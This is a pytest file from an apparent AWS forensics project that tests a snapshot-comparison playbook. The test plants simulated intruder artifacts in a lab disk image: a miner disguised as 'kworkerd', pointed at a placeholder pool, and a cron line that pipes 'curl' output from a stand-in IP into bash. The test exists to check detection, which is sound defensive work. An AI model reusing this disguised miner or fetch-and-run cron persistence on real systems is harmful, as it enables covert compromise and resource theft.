# Copyright (c) 2026 The dfir.aws authors
# GNU General Public License v3.0+ (see LICENSE or https://www.gnu.org/licenses/gpl-3.0.txt)
# SPDX-License-Identifier: GPL-3.0-or-later
"""What did the intruder do between Tuesday's backup and now? The playbook, against the lab with its policies."""

from __future__ import annotations

import base64
import csv
import gzip
import hashlib
import json
import os
import subprocess
import uuid
from pathlib import Path
from subprocess import CompletedProcess
from typing import Any

import pytest
import yaml

from lab import audit
from lab.config import ACCOUNT, LabConfig
from lab.evidence.image import ROOT_START, ensure_image
from lab.evidence.upload import written_blocks
from lab.mail.reader import list_mails
from tests.kit import CHECKOUT, run

BUCKET, HOME, EAST = f"dfir-artifacts-{ACCOUNT}", "eu-west-1", "us-east-1"
VALID = yaml.safe_load((CHECKOUT / "examples" / "triage_snapshot.yml").read_text())
BLOCK = 524_288
LATER = "@1795000000"  # after everything that the evidence tells of
MINER = b"#!/bin/sh\nexec /usr/sbin/kworkerd -o stratum+tcp://pool.minexmr.example:4444 --donate-level 1\n"
JOB = b"*/5 * * * * root curl -s http://203.0.113.66/u | bash\n"


def ask(folder: Path, *options: str, operator: dict[str, Any] | None = None, **fields: Any) -> CompletedProcess[str]:
    """Ask for a comparison; `operator` is laid over the lab's inventory."""
    (folder / "request.json").write_text(json.dumps({**VALID, **fields}))
    settings = {"dfir_aws_reports_dest": str(folder / "reports"), **(operator or {})}
    (folder / "operator.yml").write_text(json.dumps({"all": {"hosts": {"localhost": settings}}}))
    return run("ansible-playbook", "-i", "inventories/lab", "-i", str(folder / "operator.yml"),
               "playbooks/compare_snapshots.yml", "-e", f"@{folder}/request.json", *options)


def strike(disk: Path, folder: Path) -> None:
    """What an intruder does to the evidence's first partition, written by debugfs."""
    for name, content in (("miner", MINER), ("job", JOB), ("log", b"Sep  1 00:00:00 shop-web-01 sshd[1]: x\n")):
        (folder / name).write_bytes(content)
    commands = [
        f"set_current_time {LATER}",
        f"write {folder}/miner /usr/sbin/kworkerd", "set_inode_field /usr/sbin/kworkerd mode 0100755",
        "set_inode_field /usr/sbin/kworkerd mtime @1700000000",
        f"write {folder}/job /etc/cron.d/0updates",
        "set_inode_field /etc/hostname mtime @1600000000", f"set_inode_field /etc/hostname ctime {LATER}",
        "set_inode_field /usr/bin/find mode 0104755", f"set_inode_field /usr/bin/find ctime {LATER}",
        "rm /etc/motd", "ln /etc/issue /etc/issue.old", "unlink /etc/issue",
    ]
    done = subprocess.run(["debugfs", "-w", f"{disk}?offset={ROOT_START}"], input="\n".join([*commands, ""]), text=True,
                          check=True, capture_output=True)
    assert [line for line in done.stderr.splitlines() if not line.startswith("debugfs ")] == [], done.stderr


def child_of(client: Any, parent: str, before: Path, after: Path) -> tuple[str, int]:
    """A later snapshot of the same volume with what differs, as EBS direct takes it; and how many blocks that are."""
    started = client.start_snapshot(VolumeSize=after.stat().st_size >> 30, ParentSnapshotId=parent,
                                    ClientToken=uuid.uuid4().hex, Timeout=60, Description="the same disk, later")
    snapshot = started["SnapshotId"]
    digests = []
    with before.open("rb") as one, after.open("rb") as other:
        for index in sorted({*written_blocks(before), *written_blocks(after)}):
            was, now = (os.pread(file.fileno(), BLOCK, index * BLOCK) for file in (one, other))
            if was != now:
                digest = hashlib.sha256(now).digest()
                client.put_snapshot_block(SnapshotId=snapshot, BlockIndex=index, BlockData=now, DataLength=BLOCK,
                                          ChecksumAlgorithm="SHA256", Checksum=base64.b64encode(digest).decode())
                digests.append(digest)
    client.complete_snapshot(SnapshotId=snapshot, ChangedBlocksCount=len(digests))
    return snapshot, len(digests)


@pytest.fixture(scope="module")
def later(lab: LabConfig, tmp_path_factory: pytest.TempPathFactory) -> tuple[str, int]:
    """The evidence after the intruder came back, and how many blocks differ."""
    folder = tmp_path_factory.mktemp("later")
    before, after = ensure_image(lab.cache).path, folder / "disk.img"
    subprocess.run(["cp", "--sparse=always", before, after], check=True)
    strike(after, folder)
    return child_of(audit.client(lab, "ebs", EAST), VALID["aws_snapshot_id"], before, after)


@pytest.fixture
def incident() -> str:
    """One that nobody has used before."""
    return f"INC-{uuid.uuid4().hex[:8].upper()}"


def kept(lab: LabConfig, incident: str) -> dict[str, bytes]:
    """What the bucket holds of it."""
    s3 = audit.client(lab, "s3", HOME)
    found = s3.list_objects_v2(Bucket=BUCKET, Prefix=f"{incident}/").get("Contents", [])
    return {item["Key"]: s3.get_object(Bucket=BUCKET, Key=item["Key"])["Body"].read() for item in found}


def test_what_the_intruder_did_is_on_the_screen_in_the_bucket_and_in_the_mail(
        lab: LabConfig, later: tuple[str, int], tmp_path: Path, incident: str) -> None:
    snapshot, differ = later
    both = [snapshot, VALID["aws_snapshot_id"]]  # the newer one first: AWS says which is older
    checked = ask(tmp_path, "--check", incident=incident, aws_snapshot_id=both)
    assert checked.returncode == 0 and kept(lab, incident) == {}, checked.stdout
    before = audit.account(lab)
    done = ask(tmp_path, incident=incident, aws_snapshot_id=both)
    assert done.returncode == 0, done.stdout
    assert {thing.kind for thing in audit.account(lab) - before} == {"object"}, "something was launched or copied"
    there = kept(lab, incident)
    [folder] = {key.rpartition("/")[0] for key in there}
    assert folder.startswith(f"{incident}/{snapshot}/compare/")
    files = {key.rpartition("/")[2]: content for key, content in there.items()}
    assert set(files) == {"compare.json", "report.html", "changes.csv.gz"}
    data = json.loads(files["compare.json"])
    assert data["base"]["name"] == VALID["aws_snapshot_id"] and data["source"]["name"] == snapshot
    assert data["way"]["name"] == "changed blocks" and data["way"]["blocks"] == differ
    rows = list(csv.DictReader(gzip.decompress(files["changes.csv.gz"]).decode().splitlines()))
    assert {(row["kind"], row["path"]) for row in rows if row["partition"] == "p1"} == {
        ("added", "/usr/sbin/kworkerd"), ("added", "/etc/cron.d/0updates"), ("only metadata", "/etc/hostname"),
        ("only metadata", "/usr/bin/find"), ("removed", "/etc/motd"), ("renamed", "/etc/issue.old")}
    assert len(rows) == 6, "something on the other partition is called changed"
    by_path = {row["path"]: row for row in rows}
    assert by_path["/etc/cron.d/0updates"]["severity"] == by_path["/usr/bin/find"]["severity"] == "high"
    assert "set back" in by_path["/etc/hostname"]["why"] and by_path["/etc/issue.old"]["path_before"] == "/etc/issue"
    assert by_path["/usr/sbin/kworkerd"]["sha256"] == hashlib.sha256(MINER).hexdigest()
    assert "mining pool" in by_path["/usr/sbin/kworkerd"]["why"]
    found = {item["path"] for item in data["findings"]}
    assert {"/usr/sbin/kworkerd", "/etc/cron.d/0updates", "/usr/bin/find", "/etc/hostname"} <= found
    assert not {path for path in found if path not in by_path and path.startswith(("/etc", "/home", "/root"))}, found
    volume = ensure_image(lab.cache).gib << 11
    assert data["not_read"] == [] and data["source"]["blocks_read"] < volume // 8
    assert data["base"]["blocks_used"] <= differ, "unchanged blocks of the older one were read"
    assert b"Content-Security-Policy" in files["report.html"] and b"What changed" in files["report.html"]
    flat = " ".join(done.stdout.split())
    told = "2 added, 1 removed, 1 renamed, 2 only metadata"
    assert told in flat and f"s3://{BUCKET}/{incident}/" in flat and "/etc/cron.d/0updates" in flat
    assert "shop-web-01" in files["report.html"].decode()
    [mail] = [mail for mail in list_mails(lab.mails) if incident in mail.subject]
    assert "6 changes" in mail.subject and snapshot in mail.subject
    assert told in mail.text and "report.html" in mail.text


def test_what_cannot_be_compared_is_refused_and_told(lab: LabConfig, tmp_path: Path, incident: str) -> None:
    one = ask(tmp_path, incident=incident)
    assert one.returncode != 0 and "name the two that are to be compared" in " ".join(one.stdout.split())
    absent = "snap-0123456789abcdef0"
    gone = ask(tmp_path, incident=incident, aws_snapshot_id=[VALID["aws_snapshot_id"], absent])
    said = " ".join(gone.stdout.split())
    assert gone.returncode != 0 and "Compare the snapshots: " in said and absent in said, gone.stdout
    assert any(incident in mail.subject and "FAILED" in mail.subject for mail in list_mails(lab.mails))
    assert kept(lab, incident) == {}
